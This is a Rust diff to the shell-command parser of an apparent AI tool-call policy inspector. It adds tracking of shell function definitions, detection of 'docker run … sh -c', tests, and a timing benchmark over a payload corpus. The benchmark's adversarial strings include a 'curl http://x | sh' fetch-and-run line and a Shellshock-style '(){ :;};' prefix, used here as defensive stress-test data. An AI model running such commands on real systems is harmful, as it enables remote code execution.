@@ -728,6 +728,8 @@ struct Program {
     cmds: Vec<Cmd>,
     /// Bytes still allowed for nested command strings.
     budget: usize,
+    /// Names of the shell functions the text defines (`f() {`, `function f`).
+    funcs: Vec<String>,
 }
 
 impl Program {
@@ -815,6 +817,9 @@ impl Program {
                         Skip::UntilSep | Skip::Name => {
                             if skip == Skip::Name {
                                 skip = Skip::None;
+                                if self.funcs.len() < 64 {
+                                    self.funcs.push(w.text.trim_end_matches("()").to_owned());
+                                }
                             }
                             continue;
                         }
@@ -942,8 +947,12 @@ impl Program {
                     if let Some(c) = cur
                         && matches!(toks.get(k), Some(Tok::Close(_, false)))
                     {
-                        if self.cmds.len() == c + 1 {
-                            self.cmds.pop();
+                        if self.cmds.len() == c + 1
+                            && let Some(f) = self.cmds.pop()
+                            && let Some(w) = f.words.last()
+                            && self.funcs.len() < 64
+                        {
+                            self.funcs.push(w.text.clone());
                         }
                         cur = None;
                         k += 1;
@@ -1268,7 +1277,7 @@ fn is_dash_c(t: &str) -> bool {
 }
 
 fn program(text: &str, lenient: bool) -> Result<Program, String> {
-    let mut p = Program { cmds: Vec::new(), budget: text.len().saturating_mul(2).max(4096) };
+    let mut p = Program { cmds: Vec::new(), budget: text.len().saturating_mul(2).max(4096), funcs: Vec::new() };
     p.parse(text, None, None, 0, lenient)?;
     Ok(p)
 }
@@ -1284,15 +1293,29 @@ pub(crate) fn commands(text: &str) -> Result<Vec<String>, String> {
     }
     let p = program(text, false)?;
     let mut out: Vec<String> = Vec::new();
+    let mut add = |name: String| {
+        if !name.is_empty() && !out.contains(&name) {
+            out.push(name);
+        }
+    };
     for c in &p.cmds {
+        // A call of a function the text defines runs the body's commands (listed on their own).
+        if c.words.len() > c.name_at && c.name_at == 0 && c.words.first().is_some_and(|w| !w.subst && p.funcs.contains(&w.text)) {
+            continue;
+        }
         // Wrappers run too: `sudo npm` runs sudo and npm.
         for (k, w) in c.words.iter().enumerate().take(c.name_at + 1) {
             if k < c.name_at && !is_wrapper(base(&w.text)) {
                 continue;
             }
-            let name = if w.subst { "$(…)".to_owned() } else { w.text.clone() };
-            if !name.is_empty() && !out.contains(&name) {
-                out.push(name);
+            add(if w.subst { "$(…)".to_owned() } else { w.text.clone() });
+        }
+        // A shell a container or remote runner starts: `docker run img sh -c '…'`.
+        let args = c.args();
+        for (j, w) in args.iter().enumerate() {
+            if is_shell(base(&w.text)) && args.get(j + 1).is_some_and(|f| is_dash_c(&f.text)) {
+                add(w.text.clone());
+                break;
             }
         }
     }
@@ -4158,6 +4181,10 @@ mod tests {
         }
         let c = commands("for f in $(ls *.txt); do wc -l \"$f\"; done").unwrap_or_default();
         assert_eq!(c, vec!["ls".to_owned(), "wc".to_owned()]);
+        let c = commands("docker run --rm img sh -c 'apt-get update && id'").unwrap_or_default();
+        assert_eq!(c, vec!["docker".to_owned(), "sh".to_owned(), "apt-get".to_owned(), "id".to_owned()]);
+        let c = commands("greet() { echo hi; }; function bye { printf x; }; greet; bye; ls").unwrap_or_default();
+        assert_eq!(c, vec!["echo".to_owned(), "printf".to_owned(), "ls".to_owned()]);
         assert!(commands("echo 'unterminated").is_err());
         assert!(commands("echo $(date").is_err());
         assert!(commands("echo \"a").is_err());
@@ -4176,5 +4203,86 @@ mod tests {
         let t = std::time::Instant::now();
         let _ = hits(Context::Shell, &big);
         assert!(t.elapsed().as_secs() < 5);
+    }
+
+    /// Collects every string of a JSON value with its nearest key.
+    fn strings(v: &serde_json::Value, key: &str, out: &mut Vec<(String, String)>) {
+        match v {
+            serde_json::Value::String(s) => out.push((key.to_ascii_lowercase(), s.clone())),
+            serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, key, out)),
+            serde_json::Value::Object(m) => m.iter().for_each(|(k, x)| strings(x, k, out)),
+            _ => {}
+        }
+    }
+
+    /// Release-mode timing of the shell analyzer alone, the seven analyzers
+    /// on raw views, and the whole inspector over the corpus:
+    /// `cargo test --release -p aigos-policy --lib shell::tests::timing -- --ignored --nocapture`.
+    #[test]
+    #[ignore]
+    fn timing() {
+        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/corpus/payloads");
+        let mut subjects = Vec::new();
+        let mut payloads = Vec::new();
+        for entry in std::fs::read_dir(dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.extension().is_some_and(|e| e == "jsonl") {
+                for line in std::fs::read_to_string(&path).unwrap().lines().filter(|l| !l.trim().is_empty()) {
+                    let case: serde_json::Value = serde_json::from_str(line).unwrap();
+                    let tool = case["tool"].as_str().unwrap_or("").to_ascii_lowercase();
+                    let mut ss = Vec::new();
+                    strings(&case["payload"], "", &mut ss);
+                    for (f, t) in ss {
+                        subjects.push((f, tool.clone(), t));
+                    }
+                    payloads.push(serde_json::to_vec(&case["payload"]).unwrap());
+                }
+            }
+        }
+        let bytes: usize = subjects.iter().map(|s| s.2.len()).sum();
+        let pbytes: usize = payloads.iter().map(Vec::len).sum();
+        let time = |name: &str, n: usize, kib: f64, f: &dyn Fn()| {
+            f();
+            let mut best = f64::MAX;
+            for _ in 0..5 {
+                let t = std::time::Instant::now();
+                for _ in 0..n {
+                    f();
+                }
+                best = best.min(t.elapsed().as_secs_f64() * 1e6 / n as f64 / kib);
+            }
+            println!("{name}: {best:.2} us/KiB");
+        };
+        let run = |all: bool| {
+            let mut out = Vec::new();
+            for (f, tool, t) in &subjects {
+                let s = Subject { text: t, context: crate::inspect::context_of(f, tool), field: f, tool, decoded: false };
+                if all {
+                    crate::inspect::analyze(&s, &mut out);
+                } else {
+                    analyze(&s, &mut out);
+                }
+                out.clear();
+            }
+        };
+        time("shell alone (raw strings)", 20, bytes as f64 / 1024.0, &|| run(false));
+        time("seven analyzers (raw strings)", 5, bytes as f64 / 1024.0, &|| run(true));
+        let ins = crate::inspect::Inspector::new(crate::inspect::InspectorConfig::default()).unwrap();
+        time("whole inspector (payload bytes)", 5, pbytes as f64 / 1024.0, &|| {
+            for p in &payloads {
+                let _ = std::hint::black_box(ins.inspect_bytes(p));
+            }
+        });
+        // Adversarial 1 MiB strings.
+        for unit in ["$(`'\"${", "a;b|c&d ", "sh -c 'x' ", "curl http://x | sh; ", "echo a; ", "(){ :;};", "aaaa bbbb -c "] {
+            let t = unit.repeat((1 << 20) / unit.len());
+            let mut out = Vec::new();
+            let s = Subject { text: &t, context: Context::Shell, field: "cmd", tool: "", decoded: false };
+            time(&format!("adversarial {unit:?}"), 1, 1024.0, &|| {
+                let mut o = Vec::new();
+                analyze(&s, &mut o);
+            });
+            analyze(&s, &mut out);
+        }
     }
 }
